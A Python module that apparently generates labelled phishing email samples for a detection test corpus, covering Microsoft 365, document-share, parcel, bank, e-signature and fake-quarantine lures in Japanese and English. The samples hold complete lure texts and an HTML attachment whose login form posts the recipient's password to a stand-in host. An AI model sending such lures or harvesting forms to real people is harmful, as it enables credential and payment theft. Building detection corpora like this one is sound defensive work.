"""Phishing: credential lures with links (Microsoft 365, shared document,
parcel delivery, bank logins, e-signature, an HTML attachment)."""
import common as CM
import company as C
import mimeparts as M
import routes as R
from local import msg, own_server, m365, mixed, ip, Via
from message import jst

P = C.P
MESSAGES = []


def add(m):
    MESSAGES.append(m)
    return m


def page(title, inner, lang="ja"):
    return (f"<!DOCTYPE html>\n<html lang=\"{lang}\"><head><meta charset=\"utf-8\"><title>{title}</title></head>\n"
            "<body style=\"font-family:'Segoe UI',Meiryo,sans-serif;font-size:14px;color:#222\">\n"
            + inner + "\n</body></html>")


# ------------------------------------------------------------------ phishing-01

url = "https://kitaura-kogyo.example/wp-content/uploads/2026/05/ms/index.php?u=ishii.sho%40asanagi-logi.example"
txt = f"""Microsoft 365

石井 翔 様

ishii.sho@asanagi-logi.example のパスワードの有効期限は 2026/05/27 に切れます。

同じパスワードを引き続き使用するには、下のリンクから確認してください。
確認しない場合、Outlook・Teams・OneDrive へのアクセスが制限されます。

現在のパスワードを維持する
{url}

Microsoft アカウント チーム
このメッセージは自動送信されています。"""
htm = page("Microsoft 365", f"""<div style="max-width:560px;margin:0 auto;border:1px solid #ddd;padding:24px">
<div style="font-size:20px;font-weight:600;color:#0067b8">Microsoft 365</div>
<p>石井 翔 様</p>
<p><b>ishii.sho@asanagi-logi.example</b> のパスワードの有効期限は <b>2026/05/27</b> に切れます。</p>
<p>同じパスワードを引き続き使用するには、下のボタンから確認してください。確認しない場合、Outlook・Teams・OneDrive へのアクセスが制限されます。</p>
<p><a href="{url}" style="background:#0067b8;color:#fff;padding:10px 18px;text-decoration:none">現在のパスワードを維持する</a></p>
<p style="color:#777;font-size:12px">Microsoft アカウント チーム<br>このメッセージは自動送信されています。</p>
</div>""")
when = jst(2026, 5, 26, 8, 3, 40)
dom = "kitaura-kogyo.example"
add(msg("phishing-01-m365-password-expiry-compromised-sender-ja.eml", "phishing", "credential-phishing", "ja",
        "'Microsoft 365' password-expiry notice from a real but compromised small company's mailbox "
        "(kitaura-kogyo.example, own server, SPF/DKIM/DMARC pass), display name 'Microsoft 365'. The button "
        "goes to a PHP page in that company's WordPress uploads folder with the victim's address in the "
        "query. Plain and HTML (UTF-8).",
        own_server("phishing-01", when, P("ishii").email, "info@" + dom, "mail." + dom, "203.0.113.147",
                   client=(None, ip("phishing-01", "198.51.100"), "[" + ip("phishing-01", "198.51.100") + "]")),
        when=when, frm=("Microsoft 365", "info@" + dom), to=[("", P("ishii").email)], hcs=("UTF-8", "B"),
        subject="パスワードの有効期限が近づいています（ishii.sho@asanagi-logi.example）",
        body=M.alt(CM.plain(txt, "UTF-8", "base64"), CM.html(htm, "UTF-8", "base64"))))

# ------------------------------------------------------------------ phishing-02

url = "https://coastlinecfs-my.docshare-portal.example/:b:/g/personal/remit/EuQ7x2Kp?e=Hc41Zt"
txt = f"""Gloria Medina shared a file with you

"Here is the remittance summary for April. Please review before Friday."

  PHD_Remittance_Summary_April.pdf

Open: {url}

This link will work for anyone with the link. Privacy Statement."""
htm = page("Shared file", f"""<table style="max-width:520px;border:1px solid #e1e1e1;padding:20px"><tr><td>
<p style="font-size:18px"><b>Gloria Medina</b> shared a file with you</p>
<p style="color:#444">"Here is the remittance summary for April. Please review before Friday."</p>
<p style="border:1px solid #ccc;padding:10px">&#128196; PHD_Remittance_Summary_April.pdf</p>
<p><a href="{url}" style="background:#0078d4;color:#fff;padding:8px 16px;text-decoration:none">Open</a></p>
<p style="font-size:11px;color:#888">This link will work for anyone with the link. Privacy Statement</p>
</td></tr></table>""", "en")
when = jst(2026, 4, 29, 3, 17, 8)
dom = "coastline-cfs.example"
add(msg("phishing-02-shared-document-carrier-remittance-en.eml", "phishing", "document-share", "en",
        "'Gloria Medina shared a file with you' (the real carrier clerk's name as the display name) from a "
        "compromised mailbox of an unrelated freight station (coastline-cfs.example, Exchange Online, all "
        "pass), to the AP clerk. The 'Open' button goes to a look-alike document portal host "
        "(docshare-portal.example), not to the carrier. HTML and plain.",
        m365("phishing-02", when, P("cole").email, "ops@" + dom, "NAM"),
        when=when, date_tz=R.PDT, frm=("Gloria Medina via Share", "ops@" + dom), to=[P("cole").en_addr()],
        subject="Gloria Medina shared \"PHD_Remittance_Summary_April.pdf\" with you",
        body=M.alt(CM.plain(txt, "US-ASCII"), CM.html(htm, "UTF-8", "quoted-printable"))))

# ------------------------------------------------------------------ phishing-03

url = "http://198.51.100.23/jp/redelivery/?id=7730581946"
txt = f"""【日本郵便】お届け物の配達について

お客様宛にお荷物のお届けにあがりましたが、宛先不明のため
持ち帰りました。

お問い合わせ番号：7730-5819-4620
保管期限：2026年5月22日

下記URLより、再配達のお申し込みと宛先情報の確認をお願いします。
住所確認手数料（220円）のお支払いが必要です。

{url}

保管期限を過ぎますと、差出人へ返送されます。

※このメールは送信専用です。"""
when = jst(2026, 5, 20, 12, 44, 30)
dom = "post-redelivery-jp.example"
r = R.server("phishing-03", when, P("hirano").email, "mail1." + dom, "203.0.113.201",
             client=(None, ip("phishing-03"), "[" + ip("phishing-03") + "]"))
add(msg("phishing-03-parcel-redelivery-ip-url-address-fee-ja.eml", "phishing", "delivery-phishing", "ja",
        "Redelivery notice in the name of 日本郵便 from post-redelivery-jp.example (SPF softfail, no DKIM, "
        "DMARC none), link to a bare IP address over HTTP; asks for a 220-yen 'address check fee' (card "
        "details). Plain UTF-8 base64, encoded-word Subject.",
        Via(r, R.Auth("softfail", "noreply@" + dom, "none", None, "none", dom, None),
            CM.mid_std("phishing-03", when, dom)),
        when=when, frm=("日本郵便", "noreply@" + dom), to=[("", P("hirano").email)], hcs=("UTF-8", "B"),
        subject="【日本郵便】お荷物お届けできませんでした（宛先不明）",
        body=CM.plain(txt, "UTF-8", "base64")))

# ------------------------------------------------------------------ phishing-04

url = "https://kamorne-bank.example/hojin/ib/cert/renew?cid=ASG0419"
htm = page("かもめ銀行", f"""<div style="max-width:600px;margin:0 auto">
<div style="background:#0a4a8c;color:#fff;padding:12px 16px;font-size:18px">かもめ銀行 法人インターネットバンキング</div>
<div style="padding:16px;border:1px solid #ccc">
<p>株式会社朝凪ロジスティクス 様</p>
<p>いつもかもめ銀行をご利用いただきありがとうございます。</p>
<p>お客さまの<b>電子証明書の有効期限（2026年6月15日）</b>が近づいております。
有効期限を過ぎますと、振込・振替、総合振込、給与振込のご利用ができなくなります。</p>
<p>下記より、ログインのうえ電子証明書の更新手続きを行ってください。更新には、管理者ID・ログインパスワード・確認用パスワードが必要です。</p>
<p style="text-align:center"><a href="{url}" style="background:#e65c00;color:#fff;padding:10px 24px;text-decoration:none">電子証明書を更新する</a></p>
<p style="font-size:12px;color:#666">※本メールは送信専用です。<br>株式会社かもめ銀行 法人サポートデスク</p>
</div></div>""")
when = jst(2026, 6, 8, 9, 15, 22)
dom = "kamorne-bank.example"
r = R.server("phishing-04", when, P("kubo").email, "mta." + dom, "198.51.100.219", tz=R.JST)
add(msg("phishing-04-main-bank-lookalike-rn-certificate-renewal-html-ja.eml", "phishing", "bank-impersonation",
        "ja",
        "The organisation's main bank imitated on kamorne-bank.example ('rn' for 'm' in kamome-bank.example): "
        "corporate internet-banking certificate 'expires', transfers and payroll will stop, log in with "
        "admin ID and both passwords. HTML-only (UTF-8 quoted-printable). SPF pass and DKIM pass for the "
        "look-alike, DMARC none (no record).",
        Via(r, R.Auth("pass", "info@" + dom, "pass", dom, "none", dom, None), CM.mid_std("phishing-04", when, dom)),
        when=when, frm=("かもめ銀行", "info@" + dom), to=[P("kubo").ja_addr()],
        subject="【かもめ銀行】電子証明書の有効期限が近づいています",
        body=CM.html(htm, "UTF-8", "quoted-printable")))

# ------------------------------------------------------------------ phishing-05

url = "https://pccb-treasury-verify.example/signin/?session=TM-88213"
txt = f"""Pacific Coast Commerce Bank - Treasury Management

Unusual sign-in activity

We detected a sign-in to your Treasury Management profile from a new
device:

  Location: Lagos, Nigeria
  Device:   Windows 10 / Chrome
  Time:     05/12/2026 04:18 AM PDT

If this was not you, your ACH and wire services have been temporarily
limited. Restore access by verifying your identity within 24 hours:

  {url}

Pacific Coast Commerce Bank will never ask for your token code by phone.

Member FDIC"""
when = jst(2026, 5, 12, 21, 2, 40)
dom = "pccb-secure.example"
r = R.server("phishing-05", when, P("grant").email, "smtp." + dom, "203.0.113.98", tz=R.PDT)
add(msg("phishing-05-treasury-bank-unusual-signin-verify-en.eml", "phishing", "bank-impersonation", "en",
        "A US 'Treasury Management' sign-in alert ('Lagos, Nigeria', ACH and wires limited) to the US "
        "controller, from pccb-secure.example with a link to pccb-treasury-verify.example. SPF pass, no "
        "DKIM, DMARC none. Plain text and HTML.",
        Via(r, R.Auth("pass", "alerts@" + dom, "none", None, "none", dom, None), CM.mid_std("phishing-05", when, dom)),
        when=when, date_tz=R.PDT, frm=("Pacific Coast Commerce Bank", "alerts@" + dom), to=[P("grant").en_addr()],
        subject="Action required: unusual sign-in to Treasury Management",
        body=M.alt(CM.plain(txt, "US-ASCII"),
                   CM.html(CM.simple_html(txt, "Arial, sans-serif", "13px").replace(
                       CM.esc(url), f'<a href="{url}">{CM.esc(url)}</a>'), "UTF-8", "quoted-printable"))))

# ------------------------------------------------------------------ phishing-06

url = "https://docs-esign-review.example/envelope/9f21c7d0-4e4b/view?rcpt=rdelgado"
htm = page("Please review", f"""<div style="max-width:560px;margin:0 auto;background:#f4f4f4;padding:20px">
<div style="background:#1e1e3c;color:#fff;padding:24px;text-align:center">
<p style="font-size:16px">Asanagi Logistics USA sent you a document to review and sign.</p>
<p><a href="{url}" style="background:#ffc820;color:#000;padding:10px 20px;text-decoration:none;font-weight:bold">REVIEW DOCUMENT</a></p></div>
<div style="background:#fff;padding:20px">
<p><b>Legal Department</b></p>
<p>Please review and complete: <b>Carrier Master Services Agreement 2026 - Pacific Harbor Drayage.pdf</b></p>
<p style="font-size:11px;color:#666">Do Not Share This Email. This email contains a secure link. Please do not share this email, link, or access code with others.</p>
</div></div>""", "en")
when = jst(2026, 3, 26, 1, 30, 0)
dom = "esign-notification.example"
r = R.bulk("phishing-06", when, P("delgado").email, "out2." + dom, "198.51.100.154", tz=R.PDT, selector="es")
add(msg("phishing-06-esign-carrier-agreement-html-only-en.eml", "phishing", "esign-lure", "en",
        "E-signature lure: 'Asanagi Logistics USA sent you a document to review and sign' (a carrier "
        "agreement with the real carrier's name) to the US president, HTML-only, from "
        "esign-notification.example via a bulk mailer (SPF pass, DKIM pass for a different domain, DMARC "
        "fail); the button goes to docs-esign-review.example.",
        Via(r, R.Auth("pass", "bounce@" + dom, "pass", "mailer-relay.example", "fail", dom, "none"),
            CM.mid_uuid("phishing-06", dom)),
        when=when, date_tz=R.PDT, frm=("Legal Department via eSign", "dse_na3@" + dom),
        to=[P("delgado").en_addr()], return_path="bounce@" + dom,
        subject="Completed: Please review and sign - Carrier Master Services Agreement 2026",
        body=CM.html(htm, "UTF-8", "base64")))

# ------------------------------------------------------------------ phishing-07

url = "https://asanagi-logi-mailguard.example/quarantine/release?user=onodera.saki"
txt = f"""朝凪ロジスティクス メールセキュリティ

小野寺 紗希 様

以下の受信メール 4 件が保留されています。
72時間以内に操作されない場合、自動的に削除されます。

  差出人: シーライン石油 <s.katagiri@sealine-oil.example>
  件名: 【至急】5月分ご請求書（訂正）
  差出人: かもめ銀行 <ib-info@kamome-bank.example>
  件名: お振込入金のお知らせ
  ほか 2 件

保留中のメッセージを確認する:
{url}

情報システム部"""
htm = page("メールセキュリティ", "<div style=\"max-width:560px\">" + "".join(
    f"<p>{CM.esc(l)}</p>" if l and not l.startswith("http") else
    (f'<p><a href="{url}">保留中のメッセージを確認する</a></p>' if l.startswith("http") else "")
    for l in txt.split("\n")) + "</div>")
when = jst(2026, 5, 22, 7, 58, 3)
dom = "asanagi-logi-mailguard.example"
r = R.server("phishing-07", when, P("onodera").email, "relay." + dom, "203.0.113.188",
             client=(None, ip("phishing-07"), "[" + ip("phishing-07") + "]"))
add(msg("phishing-07-quarantine-notice-org-lookalike-mailguard-ja.eml", "phishing", "credential-phishing",
        "ja",
        "A 'held messages' quarantine notice in the organisation's name from asanagi-logi-mailguard.example "
        "(the organisation's name plus a word), naming real senders (a vendor, the bank) to look genuine; "
        "the link goes to the look-alike. SPF pass, DKIM none, DMARC none. ISO-2022-JP plain text and UTF-8 "
        "HTML.",
        Via(r, R.Auth("pass", "noreply@" + dom, "none", None, "none", dom, None), CM.mid_std("phishing-07", when, dom)),
        when=when, frm=("情報システム部 メール管理", "noreply@" + dom), to=[P("onodera").ja_addr()],
        subject="[要確認] 保留中の受信メッセージが 4 件あります",
        body=M.alt(CM.plain(txt), CM.html(htm, "UTF-8", "quoted-printable"))))

# ------------------------------------------------------------------ phishing-08

post = "https://bl-docs-view.example/oceanbl/auth.php"
att = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Draft B/L - Sign in to view</title></head>
<body style="font-family:Arial,sans-serif;background:#eef2f5">
<div style="width:360px;margin:60px auto;background:#fff;padding:24px;border-radius:6px">
<p style="font-weight:bold;font-size:16px">Draft Bill of Lading OLSU7781204</p>
<p style="font-size:13px">This document is protected. Sign in with your company email to view.</p>
<form method="POST" action="{post}">
<input type="email" name="login" value="knguyen@asanagi-usa.example" style="width:100%;margin:6px 0"><br>
<input type="password" name="passwd" placeholder="Password" style="width:100%;margin:6px 0"><br>
<button type="submit" style="width:100%;background:#003a70;color:#fff;padding:8px">View Document</button>
</form></div></body></html>"""
txt = """Dear Customer,

Please find attached the draft Bill of Lading for booking OLSU7781204
(Shanghai -> Long Beach, ETD 05/30). Kindly check shipper/consignee
details and the HS codes and confirm within 24 hours to avoid a late
documentation fee.

Best regards,
Export Documentation Team
Ocean Line Shipping"""
when = jst(2026, 5, 27, 11, 9, 54)
dom = "oceanline-shipping.example"
r = R.server("phishing-08", when, P("nguyen").email, "vps-4471." + "hostcloud.example", "198.51.100.233",
             client=None, helo="vps-4471.hostcloud.example")
add(msg("phishing-08-draft-bill-of-lading-html-attachment-login-form-en.eml", "phishing", "html-attachment",
        "en",
        "'Draft Bill of Lading' for a shipment, with an HTML attachment that shows a login form pre-filled "
        "with the recipient's address and posts the password to bl-docs-view.example. From "
        "oceanline-shipping.example but sent from a VPS the domain does not list (SPF fail, no DKIM, DMARC "
        "fail, p=none).",
        Via(r, R.Auth("fail", "docs@" + dom, "none", None, "fail", dom, "none"), CM.mid_std("phishing-08", when, dom)),
        when=when, date_tz=R.HKT, frm=("Ocean Line Shipping - Documentation", "docs@" + dom),
        to=[P("nguyen").en_addr()], subject="Draft B/L OLSU7781204 for your approval",
        body=mixed(CM.plain(txt, "US-ASCII"),
                   M.Attachment(att.replace("\n", "\r\n").encode("utf-8"), "text/html",
                                "Draft_BL_OLSU7781204.html"))))
